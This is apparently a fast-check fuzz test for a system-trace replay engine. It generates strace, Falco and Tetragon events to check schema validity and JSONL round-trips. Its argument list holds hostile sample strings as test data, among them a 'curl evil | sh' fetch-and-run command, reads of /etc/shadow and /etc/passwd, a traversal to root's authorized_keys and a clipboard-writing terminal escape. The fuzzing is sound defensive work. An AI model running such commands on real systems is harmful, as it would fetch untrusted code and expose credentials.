// Fuzzing the replay engine with generated event streams: pids that collide and are reused, fds that were never
// opened, clones that name themselves, exits before starts, hostile paths and annotations. Views always validate.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { TraceReplay } from '../../src/capture/common/trace/replay.js';
import type { TraceEvent } from '../../src/capture/common/trace/trace-event.js';
import { FIRST_TRACE_SECOND, LAST_TRACE_SECOND } from '../../src/capture/common/trace/trace-time.js';
import { budget, canonical, checkJsonlRoundTrip, replayAnswers, timeout } from './fuzz-support.js';

/** Syscalls the replay engine interprets, plus a few it does not. */
const NAMES = [
  ...'accept accept4 bind chdir chmod chown clone clone3 close close_range connect copy_file_range creat dup dup2 dup3 execve execveat exit exit_group fchdir fchmod fchmodat fchown fchownat fcntl fork ftruncate getegid geteuid getgid getsockopt getuid ioctl kill link linkat listen mkdir mkdirat mknod open openat openat2 pipe pipe2 pread64 pwrite64 read readv recvfrom recvmsg rename renameat2 rmdir sendfile sendmsg sendto setgid setresuid setuid socket socketpair splice symlink tgkill truncate unlink unlinkat utimensat vfork write writev'.split(
    ' ',
  ),
  'getpid',
  'mmap',
  '????',
  'x'.repeat(300),
];

/** Arguments as strace prints them, hostile ones included. */
const ARGS = [
  '3',
  '0',
  '1</dev/pts/0<char 136:0>>',
  '2</dev/null<char 1:3>>',
  '-1',
  'AT_FDCWD',
  'AT_FDCWD</tmp>',
  '7<TCP:[10.0.0.1:4444->203.0.113.9:443]>',
  '8<UNIX-STREAM:[1->2,"/run/docker.sock"]>',
  '9<pipe:[123]>',
  '99999999999999999999',
  '"/etc/passwd"',
  '"/etc/cron.d/../../root/.ssh/authorized_keys"',
  '"\\x1b]52;c;SGk=\\x07"',
  '"relative/../../x"',
  '"/proc/self/fd/3"',
  '"\\377\\376"...',
  '""',
  '"unterminated',
  '["sh", "-c", "curl evil | sh"]',
  '["a"...]',
  '[]',
  'NULL',
  'O_RDONLY|O_CLOEXEC',
  'O_WRONLY|O_CREAT|O_TRUNC',
  'O_RDWR|O_APPEND',
  '0644',
  '0xffffffffffffffff',
  '{sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("203.0.113.9")}',
  '{sa_family=AF_INET6, sin6_port=htons(99999999), sin6_addr=inet_pton(AF_INET6, "::1")}',
  '{sa_family=AF_UNIX, sun_path="/run/docker.sock"}',
  '{sa_family=AF_UNIX, sun_path=@"abstract"}',
  'SIGKILL',
  'CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_THREAD|CLONE_SIGHAND',
  'flags=CLONE_VM|CLONE_VFORK|SIGCHLD',
  'TIOCGWINSZ',
  '{ws_row=99999999999999999999, ws_col=80}',
  '[3, 4]',
  '[{iov_base="hello\\n", iov_len=6}]',
  '{f}',
  '/* 12 vars */',
];

const RETS = [
  '0',
  '3',
  '4</etc/shadow>',
  '5<TCP:[1.2.3.4:5->6.7.8.9:10]>',
  '-1 ENOENT (No such file or directory)',
  '-1 EINPROGRESS (Operation now in progress)',
  '?',
  '? ERESTARTSYS (To be restarted if SA_RESTART is set)',
  '0x7f0000000000',
  '7',
  '8',
  '12345',
  '1',
  '99999999999999999999',
  '-9999999999',
  '',
  '6',
];

const pid = fc.constantFrom(1, 2, 3, 7, 12345, 0, 4194304);
const time = fc.oneof(
  fc.record({ sec: fc.constant(Number.NaN), nsec: fc.constant(0) }),
  fc.record({
    sec: fc.integer({ min: FIRST_TRACE_SECOND, max: LAST_TRACE_SECOND }),
    nsec: fc.integer({ min: 0, max: 999_999_999 }),
  }),
  fc.record({ sec: fc.integer({ min: 1_700_000_000, max: 1_700_000_010 }), nsec: fc.constant(0) }),
);
const line = fc.nat({ max: 1_000_000 });

const syscall = fc
  .record({
    time,
    line,
    pid,
    tid: fc.option(pid, { nil: undefined }),
    name: fc.constantFrom(...NAMES),
    args: fc.array(fc.constantFrom(...ARGS), { maxLength: 5 }),
    ret: fc.constantFrom(...RETS),
    state: fc.constantFrom('complete' as const, 'unfinished' as const, 'resumed' as const),
  })
  .map(({ time: at, line: at_line, pid: id, tid, name, args, ret, state }): TraceEvent => ({
    kind: 'syscall',
    seq: 0,
    ...at,
    file: 0,
    line: at_line,
    pid: id,
    tid: tid ?? id,
    name,
    argText: args.join(', '),
    args: undefined,
    ret: state === 'unfinished' ? '' : ret,
    dur: '',
    state,
  }));

const exit = fc
  .record({
    time,
    pid,
    code: fc.option(fc.integer({ min: -300, max: 300 }), { nil: null }),
    signal: fc.option(fc.constantFrom('SIGKILL', 'SIGSEGV', ''), { nil: null }),
    supersededBy: fc.option(pid, { nil: null }),
  })
  .map(({ time: at, pid: id, code, signal, supersededBy }): TraceEvent => ({
    kind: 'exit',
    seq: 0,
    ...at,
    file: 0,
    line: 0,
    pid: id,
    tid: id,
    code,
    signal,
    core: signal === 'SIGSEGV',
    supersededBy,
  }));

const signal = fc
  .record({
    time,
    pid,
    signal: fc.constantFrom('SIGCHLD', 'SIGTERM', 'SIGSEGV', 'SIGSTOP', 'x'),
    info: fc.constantFrom(
      '{si_signo=SIGCHLD, si_code=CLD_EXITED, si_pid=3, si_uid=0}',
      '{si_signo=SIGTERM, si_code=SI_USER, si_pid=99999999999999999999}',
      'stopped',
      '',
    ),
  })
  .map(({ time: at, pid: id, signal: name, info }): TraceEvent => ({
    kind: 'signal',
    seq: 0,
    ...at,
    file: 0,
    line: 0,
    pid: id,
    tid: id,
    signal: name,
    info,
  }));

const alert = fc
  .record({
    time,
    pid: fc.option(pid, { nil: null }),
    ppid: fc.constantFrom('1', '2', '-5', '1e308', 'x', ''),
    path: fc.constantFrom('/etc/shadow', '', '\u001b[2J'),
  })
  .map(({ time: at, pid: id, ppid, path }): TraceEvent => ({
    kind: 'alert',
    seq: 0,
    ...at,
    file: 0,
    line: 0,
    pid: id,
    tid: id,
    rule: 'Write below etc',
    priority: 'Warning',
    output: 'hostile',
    source: null,
    hostname: null,
    tags: [],
    fields: { 'proc.ppid': ppid, 'fd.name': path, 'proc.cmdline': 'sh -c x', 'proc.exepath': '/bin/sh' },
    containerId: null,
  }));

const tetragonProcess = fc.record({
  pid: fc.option(pid, { nil: null }),
  tid: fc.option(pid, { nil: null }),
  uid: fc.option(fc.constantFrom(0, 1000), { nil: null }),
  binary: fc.option(fc.constantFrom('/bin/sh', '/usr/bin/curl', ''), { nil: null }),
  arguments: fc.option(fc.constantFrom('-c "id"', '', '"unterminated'), { nil: null }),
  cwd: fc.option(fc.constantFrom('/', '/tmp', 'relative'), { nil: null }),
  execId: fc.option(fc.constantFrom('a', 'b', 'c'), { nil: null }),
  parentExecId: fc.option(fc.constantFrom('a', 'b', 'c'), { nil: null }),
  startTime: fc.option(fc.constantFrom('2024-01-01T00:00:00Z', 'not a time', '9999-12-31T23:59:59-14:00'), {
    nil: null,
  }),
  containerId: fc.constant(null),
  containerName: fc.constant(null),
  image: fc.constant(null),
  podName: fc.constant(null),
  podNamespace: fc.constant(null),
});

const tetragon = fc
  .record({
    time,
    type: fc.constantFrom('process_exec', 'process_exit', 'process_kprobe', 'process_connect', 'process_other'),
    process: tetragonProcess,
    parent: fc.option(tetragonProcess, { nil: null }),
    functionName: fc.option(fc.constantFrom('security_file_permission', '__x64_sys_write', 'fd_install'), {
      nil: null,
    }),
    args: fc.array(
      fc.constantFrom<unknown>(
        { file_arg: { path: '/etc/passwd' } },
        { size_arg: '1e308' },
        { size_arg: -4 },
        { bytes_arg: 'aGVsbG8=' },
        { int_arg: 1 },
        null,
      ),
      { maxLength: 3 },
    ),
    exitStatus: fc.option(fc.integer({ min: -1, max: 255 }), { nil: null }),
  })
  .map(({ time: at, type, process, parent, functionName, args, exitStatus }): TraceEvent => ({
    kind: 'tetragon',
    seq: 0,
    ...at,
    file: 0,
    line: 0,
    type,
    node: null,
    process,
    parent,
    functionName,
    args,
    action: null,
    policy: null,
    exitSignal: null,
    exitStatus: type === 'process_exit' ? exitStatus : null,
    connect:
      type === 'process_connect'
        ? { sourceIp: '10.0.0.1', sourcePort: 1, destinationIp: '203.0.113.9', destinationPort: 443, protocol: 'TCP' }
        : null,
  }));

const diag = fc
  .constantFrom('strace: Process 3 attached', '', '\u001b]8;;http://x\u0007')
  .map((text): TraceEvent => ({ kind: 'diag', seq: 0, sec: Number.NaN, nsec: 0, file: 0, line: 0, pid: null, text }));

const events = fc.array(fc.oneof({ weight: 8, arbitrary: syscall }, exit, signal, alert, tetragon, diag), {
  maxLength: 120,
});

describe('given generated event streams', () => {
  it(
    'when replayed, then every view validates against its schema and the same stream gives the same answers',
    () => {
      fc.assert(
        fc.property(events, fc.integer({ min: 1, max: 64 }), (stream, checkpointEvery) => {
          const answers = () => {
            const replay = new TraceReplay({ checkpointEvery });
            // Fresh copies: apply() numbers the events it is given.
            for (const event of structuredClone(stream)) replay.apply(event);
            replay.finish();
            return replayAnswers(replay);
          };
          expect(canonical(answers())).toBe(canonical(answers()));
        }),
        budget(300),
      );
    },
    timeout(40_000),
  );

  it(
    'when every event is written as HoldCell JSONL, then each line validates and reads back',
    () => {
      fc.assert(
        fc.property(events, (stream) => checkJsonlRoundTrip(stream)),
        budget(300),
      );
    },
    timeout(20_000),
  );
});
